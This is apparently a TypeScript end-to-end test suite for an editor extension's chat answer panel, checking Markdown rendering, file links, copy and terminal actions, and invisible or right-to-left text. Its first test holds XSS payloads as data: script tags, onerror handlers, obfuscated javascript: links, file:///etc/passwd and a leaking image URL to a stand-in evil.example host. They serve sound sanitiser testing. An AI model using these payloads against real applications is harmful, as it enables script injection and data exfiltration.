import assert from 'node:assert/strict';
import { codeStrings } from '../../src/webview/l10n/codeStrings';
import { answer, chat, longAnswer, startedAt, text, tool, user } from './chats';
import { type PanelBench, PanelPage, startBench } from './panelPage';

const question = user('u1', 'Why?');

describe('An answer', () => {
  let bench: PanelBench;
  let panel: PanelPage;

  before(async () => {
    bench = await startBench();
  });
  afterEach(async () => {
    const { problems } = panel;
    await panel.close();
    assert.deepEqual(problems, []);
  });

  it('shows HTML as text and lets no link run anything or load anything (L29)', async () => {
    const requests: string[] = [];
    const evil = [
      '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>',
      '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)',
      '[d](vbscript:x) [e](command:workbench.action.quit) [f](vscode://x/y) [g](//evil.example/x) [h](file:///etc/passwd)',
      '![pixel](https://evil.example/leak.png?secret) ![local](images/a.png)',
      '<a href="javascript:window.hacked=1">click</a>',
      '&#x6A;avascript:window.hacked=1 [i](&#x6A;avascript:window.hacked=1) [j](java&Tab;script:window.hacked=1)',
    ].join('\n\n');
    panel = await PanelPage.open(bench);
    panel.page.on('request', (request) => requests.push(request.url()));
    await panel.snapshot({ state: chat([question, answer('u1', [text('a', evil)])]) });
    await panel.settled();
    assert.equal(await panel.page.locator('.markdown').locator('img, script, iframe, object').count(), 0);
    for (const link of await panel.page.locator('.markdown a').all()) {
      assert.match((await link.getAttribute('href')) ?? '', /^(#|https?:\/\/|mailto:)/);
      await link.click();
    }
    for (const dead of await panel.page.locator('.markdown .deadLink').all()) await dead.click();
    assert.equal(await panel.page.evaluate(() => 'hacked' in window), false);
    assert.ok((await panel.words('.markdown')).includes('pixel (https://evil.example/leak.png?secret)'));
    const said = await panel.said();
    assert.deepEqual(
      said.flatMap((message) => (message.type === 'openLink' ? [message.url] : [])),
      ['https://evil.example/leak.png?secret'],
    );
    assert.deepEqual(
      requests.filter((url) => !url.startsWith(bench.server.origin)),
      [],
    );
  });

  it('opens each place that code names, however it is written (L64)', async () => {
    const words =
      'See `app/[id]/page.tsx:3:7`, `my notes.md, lines 3 and 9` and [here](/src/данные.py#L3-L5), not `a.at(3)`.';
    panel = await PanelPage.open(bench, { state: chat([question, answer('u1', [text('a', words)])]) });
    const links = panel.page.locator('.markdown a');
    assert.deepEqual(await links.allTextContents(), ['app/[id]/page.tsx:3:7', 'my notes.md, lines 3', '9', 'here']);
    for (const link of await links.all()) await link.click();
    assert.deepEqual(await panel.said('openFile'), [
      { type: 'openFile', path: 'app/[id]/page.tsx', line: 3, column: 7, end: null },
      { type: 'openFile', path: 'my notes.md', line: 3, column: null, end: null },
      { type: 'openFile', path: 'my notes.md', line: 9, column: null, end: null },
      { type: 'openFile', path: '/src/данные.py', line: 3, column: null, end: 5 },
    ]);
  });

  it('opens files at their line and gives code to the clipboard and the editor', async () => {
    panel = await PanelPage.open(bench, { state: chat([question, answer('u1', [text('a', longAnswer)])]) });
    await panel.page.locator('.markdown a', { hasText: 'session.ts' }).click();
    await panel.page.locator('.markdown a', { hasText: 'login.ts:42' }).click();
    await panel.page.locator('.markdown a', { hasText: 'the guide' }).click();
    await panel.page.locator('[data-code="copy"]').click();
    await panel.page.locator('[data-code="insert"]').click();
    await panel.page.locator('[data-copy="answer"]').click();
    const code = longAnswer.split('```')[1]?.replace(/^ts\n/, '').trimEnd();
    // What of an answer can be linked is asked for whenever there is time.
    const said = (await panel.said()).filter(({ type }) => type !== 'linkable');
    assert.deepEqual(said.slice(-6), [
      { type: 'openFile', path: 'src/session.ts', line: 118, column: null, end: null },
      { type: 'openFile', path: 'login.ts', line: 42, column: null, end: null },
      { type: 'openLink', url: 'https://example.com/guide' },
      { type: 'copy', text: code },
      { type: 'insert', text: code },
      { type: 'copy', text: longAnswer },
    ]);
  });

  it('is copied as it is written, with an end for what a text leaves open that another one follows', async () => {
    const parts = [
      text('a', 'Look:\n\n> ~~~ts\n> open();'),
      tool('b', {}),
      text('c', 'And \u200d`left\u200e`:\n\n```js\nopen();'),
    ];
    panel = await PanelPage.open(bench, { state: chat([question, answer('u1', parts)]) });
    await panel.page.locator('[data-copy="answer"]').click();
    const [said] = await panel.said('copy');
    assert.equal(said?.text, 'Look:\n\n> ~~~ts\n> open();\n> ~~~\n\nAnd \u200d`left\u200e`:\n\n```js\nopen();');
  });

  it('offers one line of shell code to the terminal, and says of several that they are to be copied', async () => {
    const blocks = [
      '```bash\n$ npm test\n```',
      '```sh\ncd app\nnpm test\n```',
      '```ts\nlet a;\n```',
      '```sh\nls \u202e\n```',
    ];
    panel = await PanelPage.open(bench, { state: chat([question, answer('u1', [text('a', blocks.join('\n\n'))])]) });
    const block = (index: number) => panel.page.locator('.codeBlock').nth(index);
    const inTerminal = '[data-code="terminal"]';
    assert.equal(await block(0).locator('.codeWhy').count(), 0);
    await block(0).locator(inTerminal).click();
    const [said] = await panel.said('insertInTerminal');
    assert.equal(said?.text, '$ npm test');
    for (const index of [1, 2, 3]) assert.equal(await block(index).locator(inTerminal).count(), 0, String(index));
    const { lines, hidden } = codeStrings.notForTerminal;
    assert.equal(await block(1).locator('.codeWhy').textContent(), lines.brief());
    assert.equal(await block(3).locator('.codeWhy').textContent(), hidden.brief());
    const copy = (await block(1).locator('[data-code="copy"]').getAttribute('aria-label')) ?? '';
    assert.ok(copy.includes(lines.full()), copy);
  });

  it('gives the menu of a code block its text, language and conversation', async () => {
    const blocks = ['```bash\nnpm test\n```', '```ts\nlet a;\n```'];
    panel = await PanelPage.open(bench, { state: chat([question, answer('u1', [text('a', blocks.join('\n\n'))])]) });
    await panel.page.evaluate(() => {
      const told: unknown[] = [];
      Object.assign(window, { told });
      document.addEventListener('contextmenu', (event) => {
        const own = (event.target as Element).getAttribute('data-vscode-context');
        told.push(JSON.parse(own ?? 'null'));
      });
    });
    for (const button of await panel.page.locator('[data-code="ellipsis"]').all()) await button.press('Enter');
    const told = await panel.page.evaluate(() => (window as unknown as { told: readonly unknown[] }).told);
    const place = { preludeAnswer: true, answer: 'u1', above: '' };
    const shared = { ...place, preludeButton: true, preventDefaultContextMenuItems: true, preludeTarget: '' };
    const conversation = (told[0] as { conversation?: string }).conversation ?? '';
    assert.notEqual(conversation, '');
    assert.deepEqual(told, [
      { ...shared, preludeCode: 'line', conversation, info: 'bash', language: 'bash', text: 'npm test' },
      { ...shared, preludeCode: 'text', conversation, info: 'ts', language: 'ts', text: 'let a;' },
    ]);
  });

  it('colours code when its fence has closed', async () => {
    panel = await PanelPage.open(bench, {
      state: chat([question, answer('u1', [text('a', '', true)], { outcome: null, endedAt: null })], {
        activity: { kind: 'writing', since: startedAt },
      }),
    });
    await panel.events({ type: 'delta', answer: 'u1', key: 'a', text: '```ts\nconst a = 1;\n' });
    assert.equal(await panel.page.locator('code .hl-keyword').count(), 0);
    await panel.events({ type: 'delta', answer: 'u1', key: 'a', text: '```\n' });
    await panel.page.waitForSelector('code .hl-keyword');
    assert.equal(await panel.words('code'), 'const a = 1;');
  });

  it('writes out what would be invisible (L37)', async () => {
    panel = await PanelPage.open(bench, {
      state: chat([user('u1', 'a\u202eb'), answer('u1', [text('a', 'x\u200by `c\u2066d`')])]),
    });
    assert.equal(await panel.words('.bubbleText'), 'a\\u{202e}b');
    assert.equal(await panel.words('.markdown'), 'x\\u{200b}y c\\u{2066}d');
  });

  it('lets right-to-left text and code have their own directions (L30)', async () => {
    panel = await PanelPage.open(bench, {
      state: chat([
        user('u1', 'שלום'),
        answer('u1', [text('a', 'مرحبا بالعالم\n\nhello\n\n- 你好，世界\n\n```\nx\n```')]),
      ]),
    });
    const direction = (selector: string) =>
      panel.page
        .locator(selector)
        .first()
        .evaluate((element) => getComputedStyle(element).direction);
    assert.equal(await direction('.bubbleText'), 'rtl');
    assert.equal(await direction('.markdown p:first-of-type'), 'rtl');
    assert.equal(await direction('.markdown p:nth-of-type(2)'), 'ltr');
    assert.equal(await direction('.markdown pre'), 'ltr');
    assert.equal(await panel.words('.markdown li'), '你好，世界');
  });
});
